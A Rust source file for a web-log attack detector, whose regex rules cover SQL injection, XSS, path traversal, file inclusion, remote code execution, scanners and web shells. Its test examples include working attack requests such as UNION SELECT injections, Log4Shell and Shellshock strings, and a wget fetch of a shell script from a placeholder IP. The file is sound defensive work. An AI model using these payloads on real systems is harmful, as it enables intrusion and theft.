//! The built-in attack rules, after the classes of the OWASP Core Rule
//! Set (913 scanners, 930 traversal/LFI, 931 RFI, 932/933/944 code
//! execution, 941 XSS, 942 SQL injection) and what web-shell and probing
//! traffic looks like in Chinese government-site logs.
//!
//! Each rule has *keywords* and a *pattern*. A line is only decoded and
//! matched when a keyword (or an encoded byte that might hide one) is
//! present, so most lines never reach a regex. The pattern runs on the
//! normalised text (see `normalize`): lowercase, percent-decoded (twice,
//! for double encoding), `+` as space in the query, SQL comments as
//! spaces, backslashes as slashes, whitespace collapsed. Every match of a
//! pattern must contain one of its rule's keywords; `tests::keywords_cover`
//! checks that on each rule's examples.
//!
//! Patterns are written to stay quiet on natural text: a search for
//! "trade union select committee" or "how to select a union rep" is not
//! SQL; the SQL patterns need SQL syntax around the words.

use serde::{Deserialize, Serialize};

use super::AttackClass;

/// Which part of the request a rule reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Part {
    /// Path and query (normalised).
    Target,
    /// The path only (normalised, without the query).
    Path,
    /// The User-Agent header.
    UserAgent,
    /// Both the target and the user agent.
    Any,
}

/// One built-in rule.
#[derive(Debug, Clone, Copy)]
pub struct BuiltinRule {
    /// Stable identifier, reported with every hit.
    pub id: &'static str,
    /// The attack class.
    pub class: AttackClass,
    /// How sure a hit is, 0–1.
    pub confidence: f32,
    /// The part of the request it reads.
    pub part: Part,
    /// Only POST requests.
    pub post_only: bool,
    /// Lowercase literals, one of which every match contains.
    pub keywords: &'static [&'static str],
    /// The confirming pattern (bytes, lowercase, `(?-u)` is implied).
    pub pattern: &'static str,
    /// Requests that must match (used by the tests).
    pub examples: &'static [&'static str],
}

use AttackClass::*;
use Part::*;

const fn rule(
    id: &'static str,
    class: AttackClass,
    confidence: f32,
    part: Part,
    keywords: &'static [&'static str],
    pattern: &'static str,
    examples: &'static [&'static str],
) -> BuiltinRule {
    BuiltinRule {
        id,
        class,
        confidence,
        part,
        post_only: false,
        keywords,
        pattern,
        examples,
    }
}

/// Script extensions a web shell can have.
pub const SCRIPT_EXTENSIONS: &[&str] = &[
    "php", "php3", "php4", "php5", "php7", "phtml", "pht", "jsp", "jspx", "asp", "aspx", "ashx",
    "asa", "cer", "cgi", "pl",
];

/// The built-in rules.
pub const BUILTIN_RULES: &[BuiltinRule] = &[
    // ---- SQL injection (CRS 942) ----
    rule(
        "sqli-union-select",
        Sqli,
        0.9,
        Target,
        &["union"],
        r"union(?:\s+(?:all|distinct))?[\s(]*select[\s(]*(?:null\b|\d|@@|'|\x22|\*|concat|char\s*\(|group_concat|version\s*\(|user\s*\(|database\s*\(|[a-z_][a-z0-9_.]*\s*(?:,|\bfrom\s+[a-z_]|--|#|\)))",
        &[
            "/news.php?id=-1 union select 1,2,3--",
            "/a?id=1%20UNION%20ALL%20SELECT%20NULL,NULL",
            "/a?id=1/**/union/**/select/**/username,password/**/from/**/users",
            "/x?id=1)+union+select+concat(user(),0x3a)--",
        ],
    ),
    rule(
        "sqli-quote-tautology",
        Sqli,
        0.85,
        Target,
        &["'", "\""],
        r#"['"]\s*\)*\s*(?:or|and|xor|\|\||&&)\s+\(*\s*['"]?[a-z0-9_.]+['"]?\s*(?:=|<>|!=|>|<|\blike\b|\bis\b)\s*['"]?[a-z0-9_.]*"#,
        &[
            "/login?user=admin'%20or%20'1'='1",
            "/item?id=1'+OR+1=1--",
            "/q?name=x%22)%20or%20(%221%22=%221",
        ],
    ),
    rule(
        "sqli-numeric-tautology",
        Sqli,
        0.8,
        Target,
        &[" or ", " and "],
        r"=\s*-?\d*\s*\)*\s+(?:or|and)\s+\(*\d+\s*(?:=|<|>)\s*\d+",
        &["/article?id=5 or 1=1", "/article?id=5+AND+2>1"],
    ),
    rule(
        "sqli-time-based",
        Sqli,
        0.9,
        Target,
        &["sleep", "benchmark", "waitfor", "dbms_pipe"],
        r#"(?:\bsleep\s*\(\s*\d+|benchmark\s*\(\s*\d+\s*,|waitfor\s+delay\s+['"]|pg_sleep\s*\(|dbms_pipe\.receive_message)"#,
        &[
            "/a?id=1 and sleep(5)",
            "/a?id=1';WAITFOR DELAY '0:0:5'--",
            "/a?id=1%20AND%20BENCHMARK(5000000,MD5(1))",
        ],
    ),
    rule(
        "sqli-functions",
        Sqli,
        0.9,
        Target,
        &[
            "information_schema",
            "extractvalue",
            "updatexml",
            "load_file",
            "outfile",
            "dumpfile",
            "@@version",
            "sysobjects",
            "xp_cmdshell",
            "group_concat",
            "concat_ws",
            "mysql.user",
            "pg_catalog",
            "sqlite_master",
        ],
        r"(?:information_schema\.|extractvalue\s*\(|updatexml\s*\(|load_file\s*\(|into\s+(?:out|dump)file|@@version|sysobjects|xp_cmdshell|group_concat\s*\(|concat_ws\s*\(|mysql\.user|pg_catalog\.|sqlite_master)",
        &[
            "/a?id=1 and extractvalue(1,concat(0x7e,database()))",
            "/a?id=(select table_name from information_schema.tables)",
            "/a?id=1;exec master..xp_cmdshell 'dir'",
        ],
    ),
    rule(
        "sqli-stacked-query",
        Sqli,
        0.9,
        Target,
        &[";"],
        r"['\x22)\d]\s*;\s*(?:drop\s+(?:table|database)|truncate\s+table|delete\s+from|insert\s+into|update\s+[a-z_]+\s+set|exec(?:ute)?\s+(?:master|xp_|sp_)|declare\s+@|shutdown\b)",
        &[
            "/a?id=1; drop table users--",
            "/a?name=x';DELETE FROM news--",
        ],
    ),
    rule(
        "sqli-comment-terminated",
        Sqli,
        0.6,
        Target,
        &["'", "\""],
        r#"=[^&]*[a-z0-9]['"]\s*\)*\s*(?:--|#|/\*|;\s*$)"#,
        &["/login?user=admin'--", "/login?user=admin%27%23"],
    ),
    rule(
        "sqli-order-by-probe",
        Sqli,
        0.7,
        Target,
        &["order"],
        r"order\s+by\s+\d+\s*(?:--|#|/\*|$)",
        &["/a?id=1 order by 10--", "/a?id=1%20ORDER%20BY%203%23"],
    ),
    rule(
        "sqli-char-encoding",
        Sqli,
        0.7,
        Target,
        &["char", "chr"],
        r"\b(?:char|chr)\s*\(\s*\d+\s*(?:,\s*\d+\s*){2,}\)",
        &["/a?id=1 and 1=char(97,100,109,105,110)"],
    ),
    // ---- Cross-site scripting (CRS 941) ----
    rule(
        "xss-script-tag",
        Xss,
        0.95,
        Any,
        &["<"],
        r"<\s*/?\s*script\b",
        &[
            "/search?q=<script>alert(1)</script>",
            "/s?q=%3CScRiPt%3Ealert(document.cookie)%3C/script%3E",
        ],
    ),
    rule(
        "xss-event-handler",
        Xss,
        0.9,
        Any,
        &["<"],
        r"<[a-z!/][^>]*?[\s/\x22']on[a-z]{3,}\s*=",
        &[
            "/s?q=<img src=x onerror=alert(1)>",
            "/s?q=%3Csvg/onload=alert(1)%3E",
            "/s?q=\"><body onload=alert(1)>",
        ],
    ),
    rule(
        "xss-javascript-uri",
        Xss,
        0.8,
        Target,
        &["javascript", "vbscript"],
        r"(?:javascript|vbscript)\s*:[^&]*[(\x60]",
        &[
            "/go?url=javascript:alert(1)",
            "/go?url=JaVaScRiPt%3Aprompt(1)",
        ],
    ),
    rule(
        "xss-dangerous-tags",
        Xss,
        0.7,
        Target,
        &["<"],
        r"<\s*(?:iframe|object|embed|applet|math|base\s+href|meta\s[^>]*http-equiv)\b",
        &[
            "/s?q=<iframe src=//198.51.100.3/x>",
            "/s?q=%3Cobject%20data=x%3E",
        ],
    ),
    rule(
        "xss-dom-sinks",
        Xss,
        0.7,
        Target,
        &[
            "document",
            "alert",
            "prompt",
            "confirm",
            "fromcharcode",
            "eval",
        ],
        r"(?:document\s*\.\s*(?:cookie|domain|write\s*\()|\b(?:alert|prompt|confirm)\s*(?:\(|\x60)|string\s*\.\s*fromcharcode|\beval\s*\()",
        &["/s?q=x\";alert(1)//", "/s?q=';document.cookie;'"],
    ),
    // ---- Path traversal and local file inclusion (CRS 930) ----
    rule(
        "traversal-dot-dot",
        PathTraversal,
        0.85,
        Target,
        &[".."],
        r"(?:\.\./){2,}|(?:^|[=/])\.\./[a-z._-]+/",
        &[
            "/download?file=../../../../etc/passwd",
            "/static/..%2f..%2f..%2fwindows/win.ini",
            "/file?p=..%252f..%252fetc%252fhosts",
            "/a?f=../config/db.php",
        ],
    ),
    rule(
        "traversal-sensitive-file",
        PathTraversal,
        0.9,
        Target,
        &[
            "passwd",
            "shadow",
            "etc/hosts",
            "etc/group",
            "proc/self",
            "win.ini",
            "boot.ini",
            "system32",
            "htpasswd",
            "bash_history",
            "id_rsa",
        ],
        r"(?:/etc/(?:passwd|shadow|hosts|group)\b|/proc/self/(?:environ|cmdline|fd)|win\.ini|boot\.ini|windows/system32/|\.htpasswd|\.bash_history|\bid_rsa\b)",
        &[
            "/index.php?page=/etc/passwd",
            "/view?f=c:\\windows\\win.ini",
            "/a?file=/proc/self/environ",
        ],
    ),
    rule(
        "traversal-null-byte",
        PathTraversal,
        0.6,
        Target,
        &["\0"],
        r"\x00",
        &["/view.php?file=../../etc/passwd%00.jpg", "/a?f=x.php%00"],
    ),
    // ---- File inclusion, remote and by wrapper (CRS 930/931) ----
    rule(
        "inclusion-php-wrapper",
        FileInclusion,
        0.9,
        Target,
        &[
            "php://",
            "phar://",
            "zip://",
            "expect://",
            "glob://",
            "data://",
            "file://",
        ],
        r"(?:php|phar|zip|expect|glob)://|data://text/plain|file:///",
        &[
            "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
            "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCk7",
            "/a?u=file:///etc/passwd",
        ],
    ),
    rule(
        "inclusion-remote-url",
        FileInclusion,
        0.75,
        Target,
        &["=http", "=ftp", "=//"],
        r"=(?:(?:https?|ftp):)?//(?:[^&]*?(?:\?$|\?&|\.(?:txt|gif|jpg|png|jpeg)\?)|(?:\d{1,3}\.){3}\d{1,3}[:/][^&]*\.(?:txt|php|sh|pl|jpg|gif)\b)",
        &[
            "/index.php?page=http://198.51.100.7/shell.txt?",
            "/index.php?inc=http://203.0.113.50/x.txt",
        ],
    ),
    // ---- Remote code execution (CRS 932, 933, 944) ----
    rule(
        "rce-shell-command",
        Rce,
        0.85,
        Target,
        &[";", "|", "`", "$(", "&&"],
        r"(?:[;|\x60]|\$\(|&&)\s*(?:cat|wget|curl|id|uname|whoami|nc|ncat|netcat|bash|sh|ping|nslookup|chmod|rm|python|perl|busybox|tftp|powershell|cmd)(?:\s|$|[;|\x60)&+]|\.exe)",
        &[
            "/cgi-bin/ping.cgi?ip=127.0.0.1;cat /etc/passwd",
            "/a?host=x|wget http://198.51.100.9/a.sh",
            "/a?x=$(whoami)",
            "/a?x=`id`",
        ],
    ),
    rule(
        "rce-shell-path",
        Rce,
        0.85,
        Any,
        &["/bin/", "cmd.exe", "cmd /c", "powershell"],
        r"(?:/bin/(?:ba|z|da|k)?sh\b|/usr/bin/(?:id|whoami|wget|curl)\b|cmd(?:\.exe)?\s*/c\b|powershell(?:\.exe)?\s+-)",
        &[
            "/a?x=/bin/sh -c id",
            "/a?x=cmd.exe /c dir",
            "/a?x=/usr/bin/id",
        ],
    ),
    rule(
        "rce-php-code",
        Rce,
        0.85,
        Target,
        &[
            "<?",
            "base64_decode",
            "system",
            "passthru",
            "shell_exec",
            "proc_open",
            "popen",
            "assert",
            "call_user_func",
            "file_put_contents",
            "fwrite",
            "gzinflate",
            "str_rot13",
            "create_function",
            "phpinfo",
            "invokefunction",
        ],
        r"(?:<\?(?:php|=)|\b(?:base64_decode|system|passthru|shell_exec|proc_open|popen|assert|call_user_func(?:_array)?|file_put_contents|fwrite|gzinflate|str_rot13|create_function|phpinfo)\s*\(|invokefunction&function=)",
        &[
            "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "/a?c=<?php system($_get[x]);?>",
            "/a?code=eval(base64_decode('aWQ='))",
        ],
    ),
    rule(
        "rce-java-expression",
        Rce,
        0.9,
        Any,
        &[
            "${",
            "%{",
            "jndi",
            "classloader",
            "_memberaccess",
            "getruntime",
            "processbuilder",
        ],
        r"(?:\$\{\s*(?:jndi|lower|upper|env|sys|::-)|%\{\s*\(?#|\$\{\s*\(?#|class\.module\.classloader|_memberaccess|getruntime\s*\(\s*\)\s*\.\s*exec|processbuilder)",
        &[
            "/a?x=${jndi:ldap://198.51.100.4/a}",
            "/struts/a.action?redirect:%{(#a=@java.lang.runtime@getruntime().exec('id'))}",
            "/a?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        ],
    ),
    rule(
        "rce-shellshock",
        Rce,
        0.95,
        Any,
        &["() {"],
        r"\(\)\s*\{[^}]*\}\s*;",
        &["/cgi-bin/status?x=() { :; }; /bin/bash -c id"],
    ),
    // ---- Scanners (CRS 913) ----
    rule(
        "scanner-user-agent",
        Scanner,
        0.9,
        UserAgent,
        &[
            "sqlmap",
            "nikto",
            "nmap",
            "masscan",
            "zgrab",
            "nuclei",
            "acunetix",
            "netsparker",
            "wpscan",
            "dirbuster",
            "gobuster",
            "ffuf",
            "wfuzz",
            "w3af",
            "openvas",
            "nessus",
            "jaeles",
            "xray",
            "awvs",
            "hydra",
            "appscan",
            "zmeu",
            "morfeus",
            "havij",
            "whatweb",
            "commix",
            "arachni",
            "skipfish",
            "webinspect",
            "paros",
            "metasploit",
            "feroxbuster",
            "l9explore",
            "fuzz faster",
            "dirb",
            "antsword",
        ],
        r"\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|acunetix|netsparker|wpscan|dirbuster|gobuster|ffuf|wfuzz|w3af|openvas|nessus|jaeles|xray|awvs|hydra|appscan|zmeu|morfeus|havij|whatweb|commix|arachni|skipfish|webinspect|paros|metasploit|feroxbuster|l9explore|antsword)\b|fuzz faster u fool|\bdirb/",
        &[],
    ),
    // ---- Probing for files that should not be there ----
    rule(
        "probe-dotfiles",
        Probe,
        0.8,
        Path,
        &[
            "/.env",
            "/.git",
            "/.svn",
            "/.hg",
            "/.ds_store",
            "/.aws",
            "/.ssh",
            "/.idea",
            "/.vscode",
            "/.htaccess",
        ],
        r"/\.(?:env(?:\.[a-z]+)?$|git/(?:config|head|index)|svn/(?:entries|wc\.db)|hg/|ds_store|aws/credentials|ssh/|idea/workspace|vscode/sftp|htaccess)",
        &[
            "/.env",
            "/.git/config",
            "/app/.env.production",
            "/.DS_Store",
        ],
    ),
    rule(
        "probe-backups",
        Probe,
        0.7,
        Path,
        &[
            ".bak", ".old", ".orig", ".save", ".swp", "~", ".sql", ".zip", ".rar", ".tar", ".tgz",
            ".7z", ".gz",
        ],
        r"/(?:wp-config|config|configuration|settings|database|db|conn|web|index)\.(?:php|inc|ini|yml|json|asp|aspx|jsp)\.?(?:bak|old|orig|save|swp|txt|~)$|/(?:backup|backups|www|web|wwwroot|htdocs|site|db|database|dump|data|sql|admin|old)\.(?:sql|zip|rar|tar|tar\.gz|tgz|7z|gz|bak)$",
        &[
            "/wp-config.php.bak",
            "/www.zip",
            "/backup.sql",
            "/config.php~",
        ],
    ),
    rule(
        "probe-admin-tools",
        Probe,
        0.6,
        Path,
        &[
            "phpmyadmin",
            "/pma",
            "myadmin",
            "adminer",
            "phpinfo",
            "server-status",
            "actuator",
            "jmx-console",
            "manager/html",
            "solr/admin",
            "druid",
            "nacos",
            "web-inf",
        ],
        r"/(?:phpmyadmin|pma|myadmin|mysqladmin)(?:/|$)|/adminer(?:-[\d.]+)?\.php|/phpinfo\.php|/server-status|/actuator/(?:env|heapdump|gateway|mappings)|/jmx-console|/manager/html|/solr/admin|/druid/index\.html|/nacos/v1/auth|/web-inf/",
        &[
            "/phpmyadmin/",
            "/phpinfo.php",
            "/actuator/env",
            "/manager/html",
            "/WEB-INF/web.xml",
        ],
    ),
    rule(
        "probe-known-exploits",
        Probe,
        0.8,
        Path,
        &[
            "eval-stdin",
            "hnap1",
            "boaform",
            "_ignition",
            "wls-wsat",
            "_async",
            "cgi-bin/luci",
            "setup.cgi",
            "vpnsvc",
            "xmlrpc",
            "wp-file-manager",
            "elfinder",
            "kindeditor",
            "fckeditor",
            "ueditor",
        ],
        r"eval-stdin\.php|/hnap1|/boaform/|/_ignition/execute-solution|/wls-wsat/|/_async/asyncresponseservice|/cgi-bin/luci|/setup\.cgi|/vpnsvc/|/wp-file-manager/|/elfinder/php/connector|/kindeditor/php/upload_json|/fckeditor/editor/filemanager|/ueditor/(?:php|net|jsp)/controller\.[a-z]+",
        &[
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/_ignition/execute-solution",
            "/HNAP1/",
            "/ueditor/net/controller.ashx",
        ],
    ),
    // ---- Web shells ----
    rule(
        "webshell-known-name",
        WebShell,
        0.75,
        Path,
        &[
            "c99",
            "r57",
            "wso",
            "b374k",
            "alfa",
            "indoxploit",
            "webshell",
            "shell",
            "cmd.",
            "caidao",
            "chopper",
            "behinder",
            "godzilla",
            "antsword",
            "priv8",
            "sh3ll",
            "bypass",
            "/1.",
            "/x.",
            "/up.",
            "/a.",
            "tinyfilemanager",
        ],
        r"/(?:c99|r57|wso\d*|b374k|alfa\w*|indoxploit|webshell|shell\d*|cmd|caidao|chopper|behinder|godzilla|antsword|priv8|sh3ll|bypass|up|x|1|a|tinyfilemanager)\.(?:php\d?|phtml|jspx?|aspx?|ashx|asa|cer)$",
        &[
            "/uploads/c99.php",
            "/wso.php",
            "/images/1.php",
            "/tinyfilemanager.php",
        ],
    ),
    rule(
        "webshell-command-parameter",
        WebShell,
        0.85,
        Target,
        &[
            "cmd=", "exec=", "command=", "execute=", "shell=", "z0=", "ant=",
        ],
        r"(?:^|[?&])(?:cmd|exec|command|execute|shell|z0|ant)=[^&]*(?:\b(?:whoami|id|uname|dir|ls|cat|wget|curl|echo|ipconfig|ifconfig|systeminfo|tasklist|pwd)\b|net\s+user|@eval)",
        &[
            "/uploads/2026/11/x.php?cmd=whoami",
            "/img/s.jsp?exec=ls%20-la",
            "/a.aspx?command=net%20user",
        ],
    ),
    rule(
        "webshell-script-in-upload-area",
        WebShell,
        0.7,
        Path,
        &[".php", ".pht", ".jsp", ".asp", ".ashx", ".asa", ".cer"],
        r"/(?:upload|uploads|upfile|upfiles|uploadfile|uploadfiles|attachment|attachments|attached|avatar|avatars|userfiles|files|images|image|img|pic|pics|photos|media|static|tmp|temp|cache)/(?:[^/]+/)*[^/]+\.(?:php\d?|phtml|pht|jspx?|aspx?|ashx|asa|cer)$",
        &[
            "/uploads/2026/11/avatar_31.php",
            "/attached/file/20261120/x.aspx",
            "/static/img/a.jsp",
        ],
    ),
];

/// Extra rules from the plan, with the same fields as the built-in ones.
#[derive(Debug, Clone, PartialEq, Deserialize, Serialize)]
pub struct CustomRule {
    /// Identifier reported with each hit.
    pub id: String,
    /// The attack class.
    pub class: AttackClass,
    /// How sure a hit is, 0–1.
    pub confidence: f32,
    /// Which part of the request it reads.
    pub part: Part,
    /// Only POST requests.
    #[serde(default)]
    pub post_only: bool,
    /// Lowercase literals, one of which every match must contain.
    pub keywords: Vec<String>,
    /// The confirming pattern, matched against the normalised lowercase text.
    pub pattern: String,
}
